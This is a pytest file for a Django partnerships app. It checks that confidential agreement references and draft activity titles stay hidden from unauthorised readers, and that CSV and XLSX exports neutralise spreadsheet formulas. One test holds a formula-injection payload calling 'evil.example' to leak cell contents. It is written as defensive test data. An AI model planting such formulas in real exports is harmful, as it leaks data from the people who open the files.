"""Flows are known to more people than the agreements and activities they belong to: the lists, downloads and
organisation pages name an agreement or an activity only to those who may open it."""

import pytest

from wsis.partnerships.cooperation import services as cooperation_services
from wsis.partnerships.funding import services as funding_services
from wsis.stocktaking.services import activity_create
from wsis.testing.factories import flow, sample
from wsis.testing.support import body_text

pytestmark = pytest.mark.django_db

FORMATS = ["", "csv", "json", "xlsx"]


def _flow_pages(funding) -> list[str]:
    pages = [f"/en/partnerships/flows/?format={f}" if f else "/en/partnerships/flows/" for f in FORMATS]
    pages += [f"/api/v1/partnerships/flows?format={f}" for f in ("json", "csv", "xlsx", "iati")]
    pages += [f"/en/partnerships/organisations/{funding['eu'].pk}/", "/en/partnerships/"]
    return pages


def test_reference_of_an_agreement_the_reader_may_not_open(client, funding):
    from wsis.testing.factories import agreement_data

    funding_services.agreement_create(actor=funding["admin"], data=agreement_data(funding, reference="SECRET-MOU-77"))
    funding_services.flows_record(actor=funding["admin"], items=[("1", flow(funding["activity"], funding["eu"],
                                                                    agreement="SECRET-MOU-77"))])
    for page in _flow_pages(funding):
        resp = client.get(page)
        assert resp.status_code == 200, page
        body = body_text(resp)
        assert "SECRET-MOU-77" not in body, page
    # The regional officer of the agreement's region may open it, and sees its reference.
    client.force_login(funding["officer"])
    assert "SECRET-MOU-77" in body_text(client.get("/en/partnerships/flows/?format=csv"))


def test_title_of_an_activity_the_reader_may_not_open(client, funding):
    draft = activity_create(actor=funding["author"], data=sample(texts={"en": {"title": "Confidential draft plan"}},
                                                                  budget_amount="5000", budget_currency="EUR"))
    funding_services.flows_record(actor=funding["admin"], items=[("1", flow(draft, funding["eu"]))])
    for who in ("officer", "funder_user"):
        client.force_login(funding[who])
        for page in _flow_pages(funding):
            resp = client.get(page)
            assert resp.status_code == 200, (who, page)
            assert "Confidential draft plan" not in body_text(resp), (who, page)
    client.force_login(funding["author"])
    assert "Confidential draft plan" in body_text(client.get("/en/partnerships/flows/?format=csv"))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_title_typed_as_a_formula_is_text_in_the_public_download(client, funding, fmt):
    """A focal point's contribution titled as a formula reaches the anonymous download as text."""
    import csv
    import io

    from openpyxl import load_workbook

    attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'
    cooperation_services.contribution_create(actor=funding["author"], data={
        "symbol": "SG1RGQ/9", "body": "sg1", "meeting": "SG1", "date": "2025-04-10", "title": attack,
        "language": "en", "sources": [funding["ministry"].pk], "action_lines": ["C2"]})
    resp = client.get(f"/en/partnerships/contributions/?format={fmt}")
    assert resp.status_code == 200
    if fmt == "csv":
        cells = [c for row in csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))) for c in row]
        assert "'" + attack in cells and attack not in cells
    else:
        ws = load_workbook(io.BytesIO(resp.content)).active
        cell = next(c for row in ws.iter_rows() for c in row if c.value == attack)
        assert cell.data_type == "s" and cell.quotePrefix
